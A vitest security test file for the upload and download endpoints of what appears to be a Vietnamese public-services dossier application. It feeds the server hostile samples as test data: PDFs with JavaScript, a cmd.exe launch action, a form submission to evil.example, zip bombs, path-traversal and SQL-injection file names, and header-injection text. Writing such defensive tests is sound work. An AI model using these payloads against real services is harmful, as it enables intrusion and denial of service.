import { readdir } from 'node:fs/promises';
import { connect } from 'node:net';
import { Readable } from 'node:stream';
import { type CallOf } from '@dongbo/contract';
import { getDraft, saveDraft, startDraft, takeInDossier } from '@dongbo/contract/procedures';
import { paperPurpose } from '@dongbo/kernel';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { knownProcedure, startHostileServer, type HostileServer } from './hostile-server.fixture.ts';
import { requestText, sendRaw, statusIn } from './raw-request.fixture.ts';
import { clientOf, oneStopCode, sampleOwner, unitIdOf } from './sample-dossiers.fixture.ts';
import { packedObjects, smallPdf, smallPng, zipBomb } from './sample-files.fixture.ts';

let server: HostileServer;
let cookie: string;
beforeAll(async () => {
  server = await startHostileServer();
  cookie = await server.signIn('congdan1');
});
afterAll(() => server[Symbol.asyncDispose]());

async function upload(bytes: Uint8Array, name = 'giay-to.pdf') {
  const answer = await fetch(`${server.address}/api/files?name=${encodeURIComponent(name)}`, {
    method: 'POST',
    headers: { cookie, 'content-type': 'application/octet-stream', 'idempotency-key': crypto.randomUUID() },
    body: Buffer.from(bytes),
    signal: AbortSignal.timeout(30_000),
  });
  return { status: answer.status, json: await answer.json() };
}

async function storedFiles(): Promise<string[]> {
  const entries = await readdir(server.filesDir, { recursive: true, withFileTypes: true }).catch(() => []);
  return entries
    .filter((entry) => entry.isFile())
    .map((entry) => entry.name)
    .toSorted();
}

/** A JPEG that says this size, and the beginning of its scan. */
const jpegHeader = (width: number, height: number): Buffer =>
  Buffer.from([
    0xff,
    0xd8,
    0xff,
    0xe0,
    0,
    16,
    ...Buffer.from('JFIF\0'),
    1,
    1,
    0,
    0,
    1,
    0,
    1,
    0,
    0,
    0xff,
    0xc0,
    0,
    17,
    8,
    height >> 8,
    height & 255,
    width >> 8,
    width & 255,
    3,
    1,
    34,
    0,
    2,
    17,
    1,
    3,
    17,
    1,
    // The scan of one component, and one byte of it.
    0xff,
    0xda,
    0,
    8,
    1,
    1,
    0,
    0,
    63,
    0,
    0x55,
    0xff,
    0xd9,
  ]);

const hugePng = (): Buffer => {
  const bytes = Buffer.from(smallPng());
  bytes.writeUInt32BE(100_000, 16);
  bytes.writeUInt32BE(100_000, 20);
  return bytes;
};

const emptyZip = Buffer.concat([Buffer.from('PK\x05\x06', 'latin1'), Buffer.alloc(18)]);
const action = (text: string) => smallPdf({ extra: `/OpenAction ${text}` });

describe('content', () => {
  test.each<[string, Buffer, string, string]>([
    ['a program called .pdf', Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1'), 'don.pdf', 'file.type-not-allowed'],
    [
      'a web page called .png',
      Buffer.from('<!doctype html><script>alert(1)</script>'),
      'a.png',
      'file.type-not-allowed',
    ],
    [
      'an SVG with script',
      Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
      'a.svg',
      'file.type-not-allowed',
    ],
    ['a ZIP archive called .pdf', emptyZip, 'a.pdf', 'file.type-not-allowed'],
    ['an empty file', Buffer.alloc(0), 'a.pdf', 'file.empty'],
    ['a PDF after a web page', Buffer.concat([Buffer.from('<html>'), smallPdf()]), 'a.pdf', 'file.type-not-allowed'],
    [
      'a PDF that is a web page, too',
      Buffer.concat([Buffer.from('%PDF-1.4\n<html><script>alert(1)</script>\n'), smallPdf()]),
      'a.pdf',
      'file.active-content',
    ],
    ['a PDF that is an archive, too', Buffer.concat([smallPdf(), emptyZip]), 'a.pdf', 'file.attachment'],
    ['a PNG that is an archive, too', Buffer.concat([smallPng(), emptyZip]), 'a.png', 'file.attachment'],
    ['a PDF with script', action('<</S/JavaScript/JS(app.alert\\(1\\))>>'), 'a.pdf', 'file.active-content'],
    [
      'a PDF with script in escaped names',
      action('<</S/Java#53cript/JS(app.alert\\(1\\))>>'),
      'a.pdf',
      'file.active-content',
    ],
    ['a PDF that starts a program', action('<</S/Launch/F(cmd.exe)>>'), 'a.pdf', 'file.active-content'],
    [
      'a PDF with a file inside',
      smallPdf({ objects: ['<</Type/EmbeddedFile/Length 1>>stream\nx\nendstream '] }),
      'a.pdf',
      'file.attachment',
    ],
    [
      'a PDF that sends its form away',
      action('<</S/SubmitForm/F(http://evil.example)>>'),
      'a.pdf',
      'file.remote-action',
    ],
    [
      'a PDF with script among packed objects',
      smallPdf({ objects: [packedObjects('<</S/JavaScript/JS(app.alert\\(1\\))>>')] }),
      'a.pdf',
      'file.active-content',
    ],
    [
      'a PDF with objects packed so that nobody can look',
      smallPdf({ objects: ['<</Type/ObjStm/N 1/First 4/Filter/DCTDecode/Length 4>>stream\nabcd\nendstream '] }),
      'a.pdf',
      'file.damaged',
    ],
    ['a PDF that unpacks to 300 MB', smallPdf({ objects: [zipBomb(300_000_000)] }), 'a.pdf', 'file.unpacks-too-large'],
    [
      'a PDF of a million beginnings of streams',
      Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(7_000_000, 'stream ')]),
      'a.pdf',
      'file.damaged',
    ],
    ['a PNG of ten thousand million points', hugePng(), 'a.png', 'file.picture-too-large'],
    ['a JPEG of four thousand million points', jpegHeader(65_000, 65_000), 'a.jpg', 'file.picture-too-large'],
  ])('%s is refused, and nothing of it is kept', async (_, bytes, name, code) => {
    const before = await storedFiles();
    expect(await upload(bytes, name)).toMatchObject({ status: 422, json: { code } });
    expect(await storedFiles()).toEqual(before);
  });

  test.each<[string, Buffer, string]>([
    ['a plain PDF', smallPdf(), 'application/pdf'],
    [
      'a PDF with a link and a form',
      smallPdf({
        extra: '/AcroForm<</Fields[]>>/OpenAction[3 0 R/Fit]',
        objects: ['<</S/URI/URI(https://dichvucong.gov.vn)>>'],
      }),
      'application/pdf',
    ],
    ['a PDF with packed objects', smallPdf({ objects: [packedObjects('<</Producer(x)>>')] }), 'application/pdf'],
    ['a PDF that speaks of scripts', smallPdf({ objects: ['<</Title(JavaScript and Launch)>>'] }), 'application/pdf'],
    [
      'a PDF with the words of a script in a string',
      smallPdf({ objects: ['(stream\n<</S/JavaScript/JS(1)>>\nendstream)'] }),
      'application/pdf',
    ],
    ['a picture', smallPng(), 'image/png'],
    ['a photo', jpegHeader(4000, 3000), 'image/jpeg'],
  ])('%s is taken', async (_, bytes, type) => {
    expect(await upload(bytes)).toMatchObject({ status: 200, json: { type } });
  });
});

describe('size', () => {
  const head = (length: number) =>
    requestText('POST /api/files?name=a.pdf', [
      `cookie: ${cookie}`,
      'content-type: application/octet-stream',
      `idempotency-key: ${crypto.randomUUID()}`,
      `content-length: ${length}`,
    ]);

  test('two gigabytes are refused before a byte of them is read, and nothing is left', async () => {
    const before = await storedFiles();
    const answer = await sendRaw(server.port, head(2_147_483_648));
    expect(statusIn(answer)).toBe(413);
    expect(answer).toMatch(/connection: close/i);
    expect(await storedFiles()).toEqual(before);
  });

  test('a stream that says nothing of its length is cut at the limit, and nothing is left', async () => {
    const before = await storedFiles();
    async function* endless() {
      yield smallPdf();
      for (let sent = 0; sent < paperPurpose.maxBytes + 1_000_000; sent += 100_000) yield Buffer.alloc(100_000);
    }
    // Half duplex is Node's own, not in the type of the browser; so is its web stream.
    const sent: RequestInit & { duplex: 'half' } = {
      duplex: 'half',
      method: 'POST',
      headers: { cookie, 'content-type': 'application/octet-stream', 'idempotency-key': crypto.randomUUID() },
      body: Readable.toWeb(Readable.from(endless())) as unknown as BodyInit,
    };
    const status = await fetch(`${server.address}/api/files?name=a.pdf`, sent).then(
      (answer) => answer.status,
      () => 'connection cut',
    );
    expect([413, 'connection cut']).toContain(status);
    expect(await storedFiles()).toEqual(before);
  });

  test('an upload that breaks off leaves nothing', async () => {
    const before = await storedFiles();
    await new Promise<void>((resolve) => {
      const socket = connect({ port: server.port, host: '127.0.0.1' }, () => {
        socket.write(head(1_000_000));
        socket.write(smallPdf(), () => setTimeout(() => socket.destroy(), 200));
      });
      socket.on('close', () => resolve());
    });
    await expect.poll(storedFiles, { timeout: 5_000 }).toEqual(before);
  });

  test('nobody fills the disk without an account', async () => {
    const before = await storedFiles();
    const text = requestText(
      'POST /api/files?name=a.pdf',
      ['content-type: application/octet-stream', `content-length: ${smallPdf().length}`],
      smallPdf().toString('latin1'),
    );
    expect(statusIn(await sendRaw(server.port, text))).toBe(401);
    expect(await storedFiles()).toEqual(before);
  });
});

describe('names', () => {
  test.each([
    ['../../../etc/passwd', 'passwd.pdf'],
    ['C:\\Windows\\system32\\cmd.exe', 'cmd.exe.pdf'],
    ['Đơn đề nghị.pdf'.normalize('NFD'), 'Đơn đề nghị.pdf'],
    ['CON.pdf', '_CON.pdf'],
    ['nul', '_nul.pdf'],
    ['com1.tar.pdf', '_com1.tar.pdf'],
    ['hình.pdf\u202efdp.exe', 'hình.pdffdp.exe.pdf'],
    ['<script>alert(1)</script>.pdf', 'script_.pdf'],
    ["'; drop table file; --.pdf", "'; drop table file; --.pdf"],
    ['ế'.repeat(300), `${'ế'.repeat(83)}.pdf`],
  ])('%j', async (name, kept) => {
    const answer = await upload(smallPdf(), name);
    expect(answer).toMatchObject({ status: 200, json: { name: kept } });
  });

  test.each(['a\u0007b.pdf', 'x'.repeat(301)])('%j is refused, and nothing of it is kept', async (name) => {
    const before = await storedFiles();
    const bytes = Buffer.concat([smallPdf(), Buffer.from(name)]);
    expect(await upload(bytes, name)).toMatchObject({ status: 400 });
    expect(await storedFiles()).toEqual(before);
    expect(await upload(smallPdf(), name)).toMatchObject({ status: 400, json: { code: 'invalid-input' } });
  });
});

test('a draft takes two hundred files and not one more', async () => {
  const citizen = await clientOf(server, 'congdan2');
  const draft = await citizen.call(startDraft, { procedureCode: knownProcedure });
  const { rows } = await server.program.databases.official.pool.query(
    `insert into file (id, name, type, size, sha256, storage_key, uploaded_by, created_at)
     select gen_random_uuid(), n || '.pdf', 'application/pdf', 1, 'x', 'x', account.person_id, now()
     from generate_series(1, 10000) n, account where username = 'congdan2' returning id`,
  );
  const ids: string[] = rows.map((row) => row.id);
  const { procedure } = await citizen.call(getDraft, { draftId: draft.id });
  const components = procedure.componentGroups.flatMap(({ items }) => items.map(({ id }) => id));
  const save = (version: number, count: number) => {
    const papers = Array.from({ length: Math.ceil(count / 50) }, (_, index) => ({
      componentId: components[index] ?? `c${index}`,
      fileIds: ids.slice(index * 50, Math.min(count, index * 50 + 50)),
    }));
    const input: CallOf<typeof saveDraft> = {
      draftId: draft.id,
      version,
      unitId: null,
      answers: {},
      papers,
      returnMethod: 'online',
    };
    return citizen.call(saveDraft, input);
  };
  for (const count of [10_000, 201]) {
    await expect(save(draft.version, count)).rejects.toMatchObject({
      problem: { status: 422, code: 'draft.too-many-files', facts: { most: 200 } },
    });
  }
  expect((await save(draft.version, 200)).version).toBe(draft.version + 1);
});

test('a dossier at the counter takes no more than that either, and says so before it looks for them', async () => {
  const counter = await clientOf(server, 'motcua.tranbien');
  const receivingUnitId = await unitIdOf(server, oneStopCode);
  const takeIn = (papers: number, filesEach: number) =>
    counter.call(takeInDossier, {
      procedureCode: knownProcedure,
      receivingUnitId,
      owner: sampleOwner,
      papers: Array.from({ length: papers }, (_, index) => ({
        componentId: `c${index}`,
        fileIds: Array.from({ length: filesEach }, () => crypto.randomUUID()),
      })),
      timeLimit: { unit: 'working-day', value: 3 },
    });
  for (const [papers, filesEach] of [
    [200, 50],
    [67, 3],
  ] as const) {
    await expect(takeIn(papers, filesEach)).rejects.toMatchObject({
      problem: { status: 422, code: 'dossier.too-many-files', facts: { most: 200 } },
    });
  }
  await expect(takeIn(1, 10_000)).rejects.toMatchObject({ problem: { status: 400, code: 'invalid-input' } });
});

describe('downloads', () => {
  test('a file comes as what it is, sniffed by nobody, alone, kept by no cache, under a name that breaks no header', async () => {
    for (const [bytes, type] of [
      [smallPdf(), 'application/pdf'],
      [smallPng(), 'image/png'],
    ] as const) {
      const { json } = await upload(bytes, 'Đơn "x"; filename=evil.html\r.pdf'.replace('\r', ''));
      const answer = await fetch(`${server.address}/api/my/files/${json.id}`, { headers: { cookie } });
      expect(Buffer.from(await answer.arrayBuffer())).toEqual(bytes);
      expect(Object.fromEntries(answer.headers)).toMatchObject({
        'content-type': type,
        'x-content-type-options': 'nosniff',
        'cache-control': 'private, no-store',
        'content-security-policy': expect.stringMatching(/^default-src 'none'/),
        'content-disposition': expect.stringMatching(/^inline; filename="[^"]+"; filename\*=UTF-8''[\w%.!#$&+^`|~-]+$/),
      });
    }
  });
});
